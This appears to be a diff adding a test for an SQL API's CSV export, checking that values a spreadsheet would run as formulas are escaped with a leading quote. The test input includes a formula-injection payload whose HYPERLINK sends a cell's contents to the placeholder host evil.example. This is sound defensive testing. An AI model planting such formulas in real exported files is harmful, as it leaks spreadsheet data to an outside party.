@@ -127,6 +127,16 @@ describe("POST /v1/sql", () => {
     ]);
   });
 
+  it("CSV keeps a text a spreadsheet would run as a formula as text (a leading '); numbers stay numbers", async () => {
+    const q = {
+      query: `SELECT '=HYPERLINK("https://evil.example/?"&B2,"open")' AS actor, '@SUM(1)' AS a, '-5' AS t, -5 AS n, 'plain' AS p`,
+    };
+    const text = await textOf(await sql(q, { accept: "text/csv" }));
+    expect(text.split("\r\n")[1]).toBe(
+      `"'=HYPERLINK(""https://evil.example/?""&B2,""open"")","'@SUM(1)","'-5",-5,plain`,
+    );
+  });
+
   it.each([
     ["DELETE FROM logs", /only a SELECT statement is allowed, not DELETE/],
     ["WITH x AS (SELECT 1) DELETE FROM logs", /DELETE/],
